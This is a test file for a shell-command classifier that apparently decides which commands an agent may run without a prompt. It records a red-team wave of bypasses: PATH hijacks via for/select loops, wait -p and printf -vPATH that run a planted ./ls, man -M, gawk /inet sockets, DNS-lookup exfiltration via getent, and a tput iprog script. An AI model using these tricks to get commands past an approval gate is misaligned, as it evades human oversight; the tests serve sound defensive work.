// Red team, sixth wave: commands that delete, write or run code while looking like reads.
// The corpus (classify-attack6-corpus.ts) was written before reading the classifier; the
// ways around it that it found are below, each first shown doing its harm with the real
// bash (a planted ./ls runs), then classified as what it is.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { classifyShell } from '../../main/core/classify/shell';
import { ATTACKS6, PLAIN_READS6 } from './classify-attack6-corpus';

const c = (cmd: string) => classifyShell(cmd, '/repo');
const why = (cmd: string) => c(cmd).riskReasons.map((r) => r.reason).join(' | ');

/** Runs `script` with the real bash in a directory holding an executable ./ls; returns stdout. */
function bashWithPlantedLs(script: string, stdin = ''): string {
  const dir = mkdtempSync(path.join(tmpdir(), 'airlock-a6-'));
  try {
    writeFileSync(path.join(dir, 'ls'), '#!/bin/sh\necho PLANTED\n');
    chmodSync(path.join(dir, 'ls'), 0o755);
    return execFileSync('bash', ['-c', script], { cwd: dir, input: stdin, encoding: 'utf8', timeout: 10_000, stdio: ['pipe', 'pipe', 'ignore'] });
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

test('sixth wave corpus: no command that deletes, writes, runs code or connects is a read', () => {
  assert.ok(ATTACKS6.length >= 300, `${ATTACKS6.length} attacks`);
  const silent = ATTACKS6.filter((cmd) => c(cmd).action === 'read');
  assert.deepEqual(silent, [], `these would run without a prompt:\n${silent.join('\n')}`);
});

test('sixth wave corpus: every plain read stays a silent read', () => {
  assert.ok(PLAIN_READS6.length >= 60, `${PLAIN_READS6.length} reads`);
  const prompting = PLAIN_READS6.filter((cmd) => c(cmd).action !== 'read');
  assert.deepEqual(prompting, [], `these plain reads would prompt:\n${prompting.join('\n')}`);
});

test('the variable of a for or select loop is assigned like VAR=value (for PATH in .; do ls; done ran ./ls)', () => {
  // Control: PATH is exported already, so the loop variable reaches ls.
  assert.match(bashWithPlantedLs('for PATH in .; do ls; done'), /PLANTED/);
  assert.match(bashWithPlantedLs('select PATH in .; do ls; break; done', '1\n'), /PLANTED/);
  for (const cmd of ['for PATH in .; do ls; done', 'select PATH in .; do ls; break; done', 'for HOME in /tmp/x; do git status; done', 'for PATH; do ls; done', 'for GIT_DIR in /tmp/x; do git log; done', 'for IFS in /; do ls; done', 'for LD_PRELOAD in /tmp/x.so; do ls; done']) {
    assert.equal(c(cmd).action, 'execute', cmd);
    assert.match(why(cmd), /loop variable of for\/select sets [A-Z_]+, which changes how later commands run/, cmd);
  }
  // A lower-case loop variable is local to the shell, as a plain x=1 is.
  for (const cmd of ['for f in *.ts; do wc -l "$f"; done', 'for i in 1 2 3; do echo $i; done']) assert.equal(c(cmd).action, 'read', cmd);
});

test('wait -p NAME assigns NAME, and with no job unsets it (wait -p PATH; ls ran ./ls)', () => {
  assert.match(bashWithPlantedLs('wait -p PATH; ls'), /PLANTED/);
  for (const cmd of ['wait -p PATH; ls', 'wait -np PATH', 'wait -n -p HOME; git status', 'wait -p "$v"']) {
    assert.equal(c(cmd).action, 'execute', cmd);
    assert.match(why(cmd), /wait -p sets .*not a plain shell variable/, cmd);
  }
  for (const cmd of ['wait', 'wait %1', 'wait -n', 'wait -n -p pid']) assert.equal(c(cmd).action, 'read', cmd);
});

test('printf -vNAME is printf -v NAME: a value glued to a builtin option is still that option (printf -vPATH .; ls ran ./ls)', () => {
  assert.match(bashWithPlantedLs('printf -vPATH .; ls'), /PLANTED/);
  for (const cmd of ['printf -vPATH .; ls', 'printf -vCDPATH /tmp', "printf -v'a[$(id)]' x"]) {
    assert.equal(c(cmd).action, 'execute', cmd);
    assert.match(why(cmd), /printf -v.* assigns a shell variable/, cmd);
  }
  assert.equal(c("printf '%s\\n' a b").action, 'read');
});

test('man -M DIR renders pages from a directory the command names, like man ./page.1 does', () => {
  const dir = mkdtempSync(path.join(tmpdir(), 'airlock-a6-man-'));
  try {
    mkdirSync(path.join(dir, 'm', 'man1'), { recursive: true });
    writeFileSync(path.join(dir, 'm', 'man1', 'ls.1'), '.TH LS 1\n.SH NAME\nplanted page\n');
    let out = '';
    try {
      out = execFileSync('man', ['-M', './m', 'ls'], { cwd: dir, encoding: 'utf8', env: { ...process.env, MANPAGER: 'cat', PAGER: 'cat' }, timeout: 10_000, stdio: ['ignore', 'pipe', 'ignore'] });
    } catch {
      // No man on this machine: the classification below still holds.
    }
    if (out) assert.match(out, /planted page/, 'real man renders the planted page');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
  for (const cmd of ['man -M ./m ls', 'man --manpath=./m ls', 'man -M /tmp/x ls']) {
    assert.equal(c(cmd).action, 'execute', cmd);
    assert.match(why(cmd), /man -M renders pages from a directory/, cmd);
  }
  for (const cmd of ['man ls', 'man 5 crontab', 'man -k x']) assert.equal(c(cmd).action, 'read', cmd);
});

test("gawk opens a data file named /inet/… as a connection, as it does in a redirection: awk 1 /inet/tcp/0/HOST/80 is not a read", () => {
  // gawk's nextfile() opens command-line data files with devopen(), the function that
  // turns /inet/tcp/LPORT/HOST/RPORT into a socket for getline and print too.
  for (const cmd of ['awk 1 /inet/tcp/0/127.0.0.1/80', 'gawk -e 1 /inet6/tcp/0/example.com/80', "awk '{print}' f /inet4/udp/0/h/53"]) {
    assert.equal(c(cmd).action, 'transfer', cmd);
    assert.match(why(cmd), /as a network connection \(gawk's \/inet special files\)/, cmd);
  }
  assert.deepEqual(c('awk 1 /inet/tcp/0/example.com/80').resources, ['example.com']);
  for (const cmd of ["awk '{print}' f", 'awk -F: \'{print $1}\' /etc/passwd', 'awk 1 ./inet/tcp/x']) assert.equal(c(cmd).action, 'read', cmd);
});

test('getent hosts NAME looks NAME up through DNS like host NAME does (a lookup carries data out); the local databases stay reads', () => {
  assert.equal(c('host example.com').action, 'transfer', 'the rule getent now follows');
  for (const cmd of ['getent hosts example.com', 'getent ahosts c2VjcmV0.example.com', 'getent -s dns hosts x', 'getent ahostsv4 "$h"', 'getent networks example.net']) {
    assert.equal(c(cmd).action, 'transfer', cmd);
    assert.match(why(cmd), /looks names up through DNS/, cmd);
  }
  assert.deepEqual(c('getent ahosts c2VjcmV0.example.com').resources, ['c2vjcmv0.example.com']);
  for (const cmd of ['getent hosts', 'getent hosts localhost', 'getent passwd root', 'getent group']) assert.equal(c(cmd).action, 'read', cmd);
});

/** Runs argv in `dir`, ignoring its exit code (a failing git apply --check is still a read). */
function runIn(dir: string, argv: string[], env: NodeJS.ProcessEnv = process.env): void {
  try {
    execFileSync(argv[0], argv.slice(1), { cwd: dir, env, stdio: 'ignore', timeout: 10_000 });
  } catch {
    // The exit code does not matter here: what is left on disk does.
  }
}

test('prompt economy: gzip/xz/bzip2/zstd -dc, git apply --check/--stat, git clean -n, git notes list, dmesg, journalctl, stty -a and tput cols are reads; the forms that change things are not', () => {
  const dir = mkdtempSync(path.join(tmpdir(), 'airlock-a6-econ-'));
  try {
    // Controls with the real programs: the read forms leave the directory as it was.
    writeFileSync(path.join(dir, 'f'), 'x\n');
    execFileSync('gzip', ['-k', 'f'], { cwd: dir });
    runIn(dir, ['gzip', '-dc', 'f.gz']);
    assert.ok(readdirSync(dir).includes('f.gz'), 'gzip -dc keeps the archive');
    const git = (...a: string[]) => execFileSync('git', ['-c', 'user.email=a@b', '-c', 'user.name=a', ...a], { cwd: dir, stdio: 'ignore', env: { ...process.env, GIT_CONFIG_NOSYSTEM: '1', HOME: dir } });
    git('init', '-q');
    git('add', 'f');
    git('commit', '-qm', 'x');
    writeFileSync(path.join(dir, 'x.patch'), 'diff --git a/f b/f\n--- a/f\n+++ b/f\n@@ -1 +1 @@\n-x\n+y\n');
    runIn(dir, ['git', 'apply', '--check', 'x.patch']);
    runIn(dir, ['git', 'apply', '--stat', 'x.patch']);
    runIn(dir, ['git', 'clean', '-n']);
    assert.equal(readFileSync(path.join(dir, 'f'), 'utf8'), 'x\n', 'git apply --check/--stat change nothing');
    assert.ok(readdirSync(dir).includes('x.patch'), 'git clean -n deletes nothing');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
  for (const cmd of ['gzip -dc f.gz', 'gunzip -c f.gz', 'xz -l f.xz', 'xz -dc f.xz', 'bzip2 -dc f.bz2', 'zstd -dc f.zst', 'git apply --check x.patch', 'git apply --stat x.patch', 'git clean -n', 'git clean -ndx', 'git notes', 'git notes list', 'git notes show HEAD', 'dmesg', 'dmesg -T', 'journalctl -n 20', 'journalctl -u x --no-pager', 'journalctl -b -1 -p err', 'stty -a', 'stty -g', 'tput cols', 'tput setaf 1']) {
    assert.equal(c(cmd).action, 'read', cmd);
  }
  for (const cmd of ['gzip -d f.gz', 'gzip -ld f.gz', 'xz -d f.xz', 'bzip2 -d f.bz2', 'zstd -dc f.zst -o out', 'zstd -dc f.zst --rm', 'xz -dc "$f"', 'git apply x.patch', 'git apply --stat --apply x.patch', 'git apply --check --index x.patch', 'git clean -f', 'git clean -ndf', 'git clean -fn', 'git notes add -m x', 'git notes --ref x add', 'dmesg -C', 'dmesg -c', 'dmesg -n 1', 'dmesg --console-off', 'journalctl --vacuum-size=1', 'journalctl --rotate', 'journalctl --flush', 'journalctl --cursor-file=out', 'journalctl --image=x', 'stty raw', 'stty -F /dev/tty1 -a', 'tput init', 'tput reset', 'tput -S']) {
    assert.notEqual(c(cmd).action, 'read', cmd);
  }
});

test('tput init and reset run the init program the terminal description names (iprog): not reads', () => {
  const dir = mkdtempSync(path.join(tmpdir(), 'airlock-a6-tput-'));
  try {
    writeFileSync(path.join(dir, 'evil.sh'), `#!/bin/sh\n: > '${dir}/PWNED'\n`);
    chmodSync(path.join(dir, 'evil.sh'), 0o755);
    writeFileSync(path.join(dir, 'evil.ti'), `evilterm|evil terminal,\n\tcols#80, lines#24,\n\tiprog=${dir}/evil.sh,\n`);
    let haveTools = true;
    try {
      execFileSync('tic', ['-o', path.join(dir, 'ti'), 'evil.ti'], { cwd: dir, stdio: 'ignore' });
      // tput wants a terminal: script(1) gives it one.
      execFileSync('script', ['-qc', 'tput init', '/dev/null'], { cwd: dir, stdio: 'ignore', timeout: 10_000, env: { ...process.env, TERM: 'evilterm', TERMINFO: path.join(dir, 'ti') } });
    } catch {
      haveTools = false; // no tic or script here: the classification below still holds
    }
    if (haveTools) assert.ok(readdirSync(dir).includes('PWNED'), 'control: tput init ran the iprog program');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
  for (const cmd of ['tput init', 'tput reset', 'tput -T xterm reset', 'tput "$cap"']) {
    assert.equal(c(cmd).action, 'execute', cmd);
  }
  assert.match(why('tput init'), /init program/);
});
